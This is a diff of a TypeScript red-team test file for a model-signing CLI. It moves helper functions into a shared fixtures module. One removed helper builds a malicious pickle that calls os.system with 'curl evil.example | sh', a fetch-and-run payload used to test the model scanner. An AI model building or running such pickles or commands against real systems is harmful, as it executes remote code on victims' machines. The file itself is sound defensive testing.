@@ -1,7 +1,7 @@
 // Red-team tests of `bulwark verify` and the registry's "no signature, no deploy" gate, end to end
 // through the CLI on SQLite. Each test is an attack and asserts the secure outcome; a failing test
 // here is a finding.
-import { createHash, generateKeyPairSync, randomBytes } from 'node:crypto';
+import { createHash, randomBytes } from 'node:crypto';
 import {
   chmodSync,
   mkdirSync,
@@ -21,40 +21,11 @@ import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import { diskBlobStore } from '../src/cli/fs-blob-files.js';
 import { DATASET_ADMISSION_PREDICATE } from '../src/core/predicate-types.js';
 import { readEncryptedHeader } from '../src/registry/encryption/read-encrypted-header.js';
+import { maliciousPickle, writeKeyPair, writeModel } from './support/model-fixtures.js';
 import { runCli, type CliRun } from './support/run-cli.js';
 
 const DATASET = `sha256:${'cd'.repeat(32)}`;
 const REDTEAM = 'https://bulwark.dev/attestation/redteam/v1';
-
-/** A protocol-2 pickle that calls os.system: the model scanner reports it as critical. */
-function maliciousPickle(): Buffer {
-  const command = Buffer.from('curl evil.example | sh');
-  const length = Buffer.alloc(4);
-  length.writeUInt32LE(command.length);
-  return Buffer.concat([
-    Buffer.from([0x80, 0x02]),
-    Buffer.from('cos\nsystem\n'),
-    Buffer.from('X'),
-    length,
-    command,
-    Buffer.from([0x85]),
-    Buffer.from('R.'),
-  ]);
-}
-
-function writeKeyPair(dir: string, name: string): void {
-  const pair = generateKeyPairSync('ed25519');
-  writeFileSync(join(dir, `${name}.key`), pair.privateKey.export({ type: 'pkcs8', format: 'pem' }));
-  writeFileSync(join(dir, `${name}.pub`), pair.publicKey.export({ type: 'spki', format: 'pem' }));
-}
-
-function writeModel(dir: string, name = 'model'): string {
-  const model = join(dir, name);
-  mkdirSync(model, { recursive: true });
-  writeFileSync(join(model, 'config.json'), '{"architectures":["BertForSequenceClassification"]}\n');
-  writeFileSync(join(model, 'weights.bin'), randomBytes(50_000));
-  return model;
-}
 
 function sha256Hex(bytes: Uint8Array | string): string {
   return createHash('sha256').update(bytes).digest('hex');
